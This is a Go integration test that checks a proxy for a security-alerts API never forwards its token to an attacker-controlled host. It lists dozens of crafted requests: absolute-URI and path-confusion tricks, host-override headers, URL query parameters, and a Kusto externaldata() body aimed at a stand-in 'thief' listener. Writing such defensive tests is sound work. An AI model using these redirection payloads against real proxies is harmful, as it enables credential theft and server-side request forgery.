package integration

import (
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
)

// Somebody wants the token to come to a host of theirs. They name it wherever a
// proxy has ever looked for one: in the target, in headers, in the path, in the
// query, in the body. Nobody ever connects to it, every request goes to a region of
// the configuration, and no link of an answer leads there.
func TestAttackToSendTheTokenElsewhere(t *testing.T) {
	t.Parallel()
	thief, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var connected sync.WaitGroup
	visits := make(chan string, 64)
	connected.Go(func() {
		for {
			c, err := thief.Accept()
			if err != nil {
				return
			}
			visits <- c.RemoteAddr().String()
			c.Close()
		}
	})
	w := victim(t, nil)
	there := thief.Addr().String()
	const close = "Connection: close\r\n"
	w.sim.ResetRequests()
	for _, request := range []string{
		"GET http://THIEF/api/alerts HTTP/1.1\r\nHost: THIEF\r\n",
		"GET http://THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET https://THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET http://HOST@THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /api/alerts?$top=1 HTTP/1.1\r\nHost: THIEF\r\n",
		"GET //THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET ///THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /\\THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /@THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET @THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /http://THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /api/http:%2f%2fTHIEF/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /t/THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /t/contoso@THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /blob/http:THIEF HTTP/1.1\r\nHost: HOST\r\n",
		"GET /api/alerts?$top=1&url=http://THIEF&endpoint=http://THIEF&region=THIEF&host=THIEF HTTP/1.1\r\nHost: HOST\r\n",
		"GET /api/alerts?$top=1&$skiptoken=http://THIEF HTTP/1.1\r\nHost: HOST\r\n",
		"GET /-/explain?method=GET&path=http://THIEF/api/alerts HTTP/1.1\r\nHost: HOST\r\n",
		"GET /-/whoami?tenant=THIEF&authority=http://THIEF HTTP/1.1\r\nHost: HOST\r\n",
		"GET / HTTP/1.1\r\nHost: HOST\r\nX-Forwarded-Host: THIEF\r\n",
		"CONNECT THIEF HTTP/1.1\r\nHost: THIEF\r\n",
	} {
		exchange(t, w.address(), strings.NewReplacer("HOST", w.address(), "THIEF", there).Replace(request+close+"\r\n"))
	}
	for _, name := range []string{
		"X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-Original-Host", "X-Backend", "X-Backend-Host", "X-Upstream", "X-Upstream-Host", "X-Skipper-Proxy", "X-Target", "X-Target-Url", "X-Proxy-Host", "X-Proxy-Url", "X-Destination",
		"Destination", "X-Amz-Host", "X-Region", "X-Endpoint", "X-Original-Url", "X-Rewrite-Url", "X-Accel-Redirect", "X-Sendfile", "Location", "Content-Location", "Referer", "X-Wap-Profile", "Profile", "Proxy-Host", "Proxy", "Http-Proxy", "Https-Proxy", "Alt-Used", "X-Real-Host", "Base-Url", "Link",
	} {
		for _, value := range []string{"THIEF", "http://THIEF/"} {
			got := exchange(t, w.address(), strings.NewReplacer("HOST", w.address(), "THIEF", there).Replace("GET /api/alerts?$top=1 HTTP/1.1\r\nHost: HOST\r\n"+name+": "+value+"\r\n"+close+"\r\n"))
			if len(got) != 1 || got[0].status != http.StatusOK || strings.Contains(string(got[0].body)+fmt.Sprint(got[0].header), there) {
				t.Errorf("with %s: %s the answer is %v", name, value, got)
			}
		}
	}
	for _, body := range []string{`{"Query":"externaldata(x:string)['http://THIEF/'] | take 1"}`, `{"url":"http://THIEF","callback":"http://THIEF","Query":"DeviceInfo | take 1"}`} {
		body = strings.ReplaceAll(body, "THIEF", there)
		exchange(t, w.address(), fmt.Sprintf("POST /api/advancedqueries/run HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n\r\n%s", w.address(), close, len(body), body))
	}
	thief.Close()
	connected.Wait()
	if len(visits) > 0 {
		t.Errorf("the thief was called %d times", len(visits))
	}
	region := strings.TrimPrefix(w.sim.Endpoint("eu"), "https://")
	arrived := w.upstream()
	for _, r := range arrived {
		if r.Host != region || strings.Contains(r.Host, there) {
			t.Errorf("a request arrived for the host %s: %+v", r.Host, r)
		}
	}
	if len(arrived) < 70 {
		t.Errorf("only %d requests arrived, too few to tell anything", len(arrived))
	}
}
